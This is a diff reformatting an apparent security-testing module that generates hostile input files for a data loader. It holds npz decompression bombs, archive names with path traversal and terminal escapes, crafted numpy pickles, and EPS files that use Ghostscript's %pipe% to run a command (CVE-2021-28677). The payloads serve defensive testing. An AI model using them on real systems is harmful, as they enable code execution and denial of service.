@@ -10,9 +10,7 @@ import zlib
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
-
 from hostile.payload import Case, Payload, command_of
-
 from hostile.payloads.callables import CALLS
 from hostile.payloads.opcodes import encode
 from hostile.payloads.pickles import body, cell_pickles
@@ -46,17 +44,52 @@ _SHAPE = ("(8, 28, 28, 1)", "(1 << 40,)", "(1099511627776,)", "(-1, 28, 28, 1)",
 
 def _npz_files() -> Iterator[tuple[str, str, bytes]]:
     for descr in _DESCR:
-        yield f"npz type {descr[:24]}", "numpy's own suite: headers", _npz({"images.npy": _npy(descr, "(8, 28, 28, 1)", bytes(6272)), "labels.npy": _LABELS})
-        yield f"npz labels {descr[:24]}", "numpy's own suite: headers", _npz({"images.npy": _IMAGES, "labels.npy": _npy(descr, "(8,)", bytes(64))})
+        yield (
+            f"npz type {descr[:24]}",
+            "numpy's own suite: headers",
+            _npz({"images.npy": _npy(descr, "(8, 28, 28, 1)", bytes(6272)), "labels.npy": _LABELS}),
+        )
+        yield (
+            f"npz labels {descr[:24]}",
+            "numpy's own suite: headers",
+            _npz({"images.npy": _IMAGES, "labels.npy": _npy(descr, "(8,)", bytes(64))}),
+        )
     for shape in _SHAPE:
-        yield f"npz shape {shape[:30]}", "issue 15.13: declared sizes", _npz({"images.npy": _npy("'|u1'", shape, bytes(6272)), "labels.npy": _LABELS})
-        yield f"npz labels shape {shape[:30]}", "issue 15.13: declared sizes", _npz({"images.npy": _IMAGES, "labels.npy": _npy("'<i8'", shape, bytes(64))})
+        yield (
+            f"npz shape {shape[:30]}",
+            "issue 15.13: declared sizes",
+            _npz({"images.npy": _npy("'|u1'", shape, bytes(6272)), "labels.npy": _LABELS}),
+        )
+        yield (
+            f"npz labels shape {shape[:30]}",
+            "issue 15.13: declared sizes",
+            _npz({"images.npy": _IMAGES, "labels.npy": _npy("'<i8'", shape, bytes(64))}),
+        )
     bomb = _npy("'|u1'", f"({400 << 20}, 1, 1, 1)", bytes(400 << 20))
-    yield "npz bomb", "issue 15.13: 1.2 MB become 3 GB", _npz({"images.npy": bomb, "labels.npy": _LABELS}, zipfile.ZIP_DEFLATED)
-    yield "npz bomb in labels", "issue 15.13", _npz({"images.npy": _IMAGES, "labels.npy": _npy("'|u1'", f"({400 << 20},)", bytes(400 << 20))}, zipfile.ZIP_DEFLATED)
-    yield "npz bomb elsewhere", "issue 15.13", _npz({"images.npy": _IMAGES, "labels.npy": _LABELS, "zq7x.npy": bomb}, zipfile.ZIP_DEFLATED)
+    yield (
+        "npz bomb",
+        "issue 15.13: 1.2 MB become 3 GB",
+        _npz({"images.npy": bomb, "labels.npy": _LABELS}, zipfile.ZIP_DEFLATED),
+    )
+    yield (
+        "npz bomb in labels",
+        "issue 15.13",
+        _npz(
+            {"images.npy": _IMAGES, "labels.npy": _npy("'|u1'", f"({400 << 20},)", bytes(400 << 20))},
+            zipfile.ZIP_DEFLATED,
+        ),
+    )
+    yield (
+        "npz bomb elsewhere",
+        "issue 15.13",
+        _npz({"images.npy": _IMAGES, "labels.npy": _LABELS, "zq7x.npy": bomb}, zipfile.ZIP_DEFLATED),
+    )
     for version in (b"\2\0", b"\3\0", b"\xff\0", b"\0\0"):
-        yield f"npz version {version[0]}", "numpy's own suite", _npz({"images.npy": _npy("'|u1'", "(8, 28, 28, 1)", bytes(6272), version), "labels.npy": _LABELS})
+        yield (
+            f"npz version {version[0]}",
+            "numpy's own suite",
+            _npz({"images.npy": _npy("'|u1'", "(8, 28, 28, 1)", bytes(6272), version), "labels.npy": _LABELS}),
+        )
     yield "npz twice", "an array twice", _npz({"images.npy": _IMAGES, "images": b"x", "labels.npy": _LABELS})
     yield "npz paths", "paths as names", _npz({"../../zq7x.npy": _IMAGES, "images.npy": _IMAGES, "labels.npy": _LABELS})
     yield "npz escapes", "control characters", _npz({"\x1b]0;zq7x\x07.npy": _IMAGES})
@@ -71,15 +104,25 @@ def _chunk(name: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
 
 
-def _png(width: int, height: int, *, chunks: bytes = b"", rows: bytes | None = None, depth: int = 8, colour: int = 0) -> bytes:
+def _png(
+    width: int, height: int, *, chunks: bytes = b"", rows: bytes | None = None, depth: int = 8, colour: int = 0
+) -> bytes:
     head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
     pixels = zlib.compress(bytes((width + 1) * height) if rows is None else rows, 9)
     return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + chunks + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
 
 
-def _eps(command: str) -> bytes:
-    run = f"(%pipe%{command}) (w) file closefile\n"
-    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 28 28\n%%EndComments\n{run}showpage\n%%EOF\n".encode()
+_EPS = (
+    ("eps", b"", b""),
+    ("eps, DOS", b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIII", 32, 500, 0, 0, 0, 0) + bytes(4), b""),
+    ("eps, BeginBinary", b"", b"%%BeginBinary: -100\n"),
+)
+
+
+def _eps(command: str, extra: bytes) -> bytes:
+    run = f"(%pipe%{command}) (w) file closefile\n".encode()
+    head = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 28 28\n%%EndComments\n"
+    return head + extra + run + b"showpage\n%%EOF\n"
 
 
 def _image_files() -> Iterator[tuple[str, str, Callable[[Case], bytes]]]:
@@ -131,11 +174,12 @@ def _image_files() -> Iterator[tuple[str, str, Callable[[Case], bytes]]]:
     }  # fmt: skip
     for name, (about, make) in fixed.items():
         yield name, about, lambda case, make=make: make()
-    for name in ("eps", "eps, DOS", "eps, BeginBinary"):
-        extra = b"%%BeginBinary: -100\n" if "Binary" in name else b""
-        yield name, "issue 15.6, CVE-2021-28677: Ghostscript", lambda case, extra=extra: (
-            b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIII", 32, 500, 0, 0, 0, 0) + bytes(4) if "DOS" in name else b""
-        ) + _eps(command_of(case.marker)).replace(b"%%EndComments\n", b"%%EndComments\n" + extra)
+    for name, head, extra in _EPS:
+        yield (
+            name,
+            "issue 15.6, CVE-2021-28677: Ghostscript",
+            lambda case, h=head, e=extra: h + _eps(command_of(case.marker), e),
+        )
 
 
 def _picture(make: Callable[[Case], bytes], suffix: str, copies: int = 1) -> Callable[[Case], None]:
@@ -158,11 +202,17 @@ def _arrays() -> Iterator[tuple[str, bytes]]:
         made = f"c{module}\n_reconstruct\n".encode() + b"(cnumpy\nndarray\n" + encode((0,)) + encode(b"b") + b"tR"
         for number, state in enumerate(states):
             typed = dtype + encode(state) + b"b"
-            yield f"{module}, dtype state {number}", made + b"(" + encode(1) + encode((8, 3072)) + typed + b"\x89" + encode(bytes(24576)) + b"tb"
+            yield (
+                f"{module}, dtype state {number}",
+                made + b"(" + encode(1) + encode((8, 3072)) + typed + b"\x89" + encode(bytes(24576)) + b"tb",
+            )
             yield f"{module}, dtype state {number} alone", typed
         for shape in ((1 << 40,), (-1,), (8, 3072, 1 << 20), (1 << 62, 4), "zq7x"):
             plain = b"cnumpy\ndtype\n" + encode(("u1", False, True)) + b"R"
-            yield f"{module}, shape {shape}", made + b"(" + encode(1) + encode(shape) + plain + b"\x89" + encode(bytes(24576)) + b"tb"
+            yield (
+                f"{module}, shape {shape}",
+                made + b"(" + encode(1) + encode(shape) + plain + b"\x89" + encode(bytes(24576)) + b"tb",
+            )
         yield f"{module}, objects", made + b"(" + encode(1) + encode((8,)) + dtype + b"\x89" + encode(bytes(64)) + b"tb"
         yield f"{module}, scalar", f"c{module}\nscalar\n".encode() + b"(" + dtype + encode(bytes(8)) + b"tR"
         yield f"{module}, _frombuffer", f"c{module.replace('multiarray', 'numeric')}\n_frombuffer\n".encode() + b"(" + encode(bytes(8)) + dtype + encode((1,)) + encode("C") + b"tR"  # fmt: skip
@@ -218,10 +268,20 @@ def _fonts() -> Iterator[tuple[str, bytes]]:
 def payloads() -> Iterator[Payload]:
     """Everything that images may come from."""
     for name, about, data in _npz_files():
-        yield Payload("npz", name, about, lambda c, data=data: (c.folder / "m.npz").write_bytes(data) and None, "m.npz", WAYS)
+        yield Payload(
+            "npz", name, about, lambda c, data=data: (c.folder / "m.npz").write_bytes(data) and None, "m.npz", WAYS
+        )
     for name, about, call, route in cell_pickles():
         form = ("python", "archive", "whole")[len(name) % 3]
-        yield Payload("cifar", f"{name}, {form}", about, _batch(lambda c, a=call, r=route: body(a, r, c), form), "cifar", WAYS, (call.module,))
+        yield Payload(
+            "cifar",
+            f"{name}, {form}",
+            about,
+            _batch(lambda c, a=call, r=route: body(a, r, c), form),
+            "cifar",
+            WAYS,
+            (call.module,),
+        )
     for name, data in _arrays():
         yield Payload("cifar", name, "issue 15.4: states of dtypes", _batch(lambda c, data=data: data), "cifar", WAYS)
     for call in CALLS[:20]:
@@ -230,7 +290,14 @@ def payloads() -> Iterator[Payload]:
     for name, about, make in _image_files():
         for suffix in (".png", ".jpg", ".tif") if "bomb" not in name else (".png",):
             yield Payload("image", f"{name} as {suffix}", about, _picture(make, suffix), "pictures", WAYS)
-    yield Payload("image", "24 large pictures", "issue 15.13", _picture(lambda c: _png(6_000, 6_000), ".png", 12), "pictures", WAYS)
+    yield Payload(
+        "image",
+        "24 large pictures",
+        "issue 15.13",
+        _picture(lambda c: _png(6_000, 6_000), ".png", 12),
+        "pictures",
+        WAYS,
+    )
     for name, data in _fonts():
         yield Payload("font", name, "fontTools' own suite", lambda c, data=data: _font(c, data), "fonts", WAYS)
 
@@ -238,5 +305,3 @@ def payloads() -> Iterator[Payload]:
 def _font(case: Case, data: bytes) -> None:
     (case.folder / "fonts").mkdir()
     (case.folder / "fonts" / "x.ttf").write_bytes(data)
-
-
